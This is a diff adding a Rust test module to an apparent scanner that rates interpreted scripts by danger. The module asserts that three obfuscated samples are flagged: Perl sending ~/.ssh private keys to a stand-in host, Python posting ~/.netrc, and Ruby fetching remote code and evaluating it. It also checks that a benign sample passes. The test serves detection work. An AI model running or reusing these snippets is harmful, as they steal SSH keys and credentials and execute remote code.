@@ -124,3 +124,35 @@ impl Flow<'_> {
         secret.and(lasting)
     }
 }
+
+#[cfg(test)]
+mod tests {
+    use crate::finding::Severity;
+    use crate::interpreted::tests::of;
+
+    #[test]
+    fn names_that_one_statement_gives_texts_to_are_followed() {
+        for (by, path, text) in [
+            (
+                "perl",
+                "a.pl",
+                "use IO::Socket::INET;\nmy ($dot, $dir) = ('.', join '', qw(s s h));\nmy @keys = glob \"$ENV{HOME}/$dot$dir/id_*\";\nmy $s = IO::Socket::INET->new(PeerAddr => 'a.invalid');\nprint $s @keys;\n",
+            ),
+            (
+                "python3",
+                "a.py",
+                "import os, urllib.request as u\ndot, name = '.', 'netrc'\np = os.path.join(os.path.expanduser('~'), dot + name)\nu.urlopen('https://a.invalid', open(p, 'rb').read())\n",
+            ),
+            (
+                "ruby",
+                "a.rb",
+                "require 'net/http'\nrules = Net::HTTP.get(URI('https://a.invalid/x.rb'))\npublic_send(:\"instance_#{%w[e v a l].join}\", rules)\n",
+            ),
+        ] {
+            assert_eq!(of(by, path, text), Some(Severity::Danger), "{text}");
+        }
+        let honest =
+            "import os\nwidth, name = 80, 'notes'\nprint(open(os.path.join(os.getcwd(), name)).read()[:width])\n";
+        assert!(of("python3", "a.py", honest).is_none_or(|severity| severity < Severity::Danger));
+    }
+}
